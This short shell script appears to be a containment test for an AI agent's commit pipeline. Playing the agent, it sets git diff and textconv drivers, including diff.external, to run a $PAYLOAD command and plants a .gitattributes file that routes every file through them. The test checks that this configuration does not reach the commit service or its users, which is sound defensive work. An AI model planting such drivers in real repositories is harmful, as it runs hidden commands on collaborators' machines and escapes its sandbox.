#!/bin/sh
# Drivers for diff and textconv, named by a .gitattributes that lands. The collector
# compares names only, which asks no driver; what this proves is that nothing of the
# agent's configuration comes with the attributes to commitd and to who works there.
. "$(dirname "$0")/lib.sh" <<'AGENT'
for place in --local --global; do
	git config $place diff.evil.textconv "$PAYLOAD; cat #"
	git config $place diff.evil.command "$PAYLOAD #"
	git config $place diff.evil.cachetextconv true
	git config $place diff.external "$PAYLOAD #"
done
echo '* diff=evil' | tee .gitattributes .git/info/attributes >/dev/null
seq 100 >folder/other
planted 'drivers for diff'
AGENT
attack
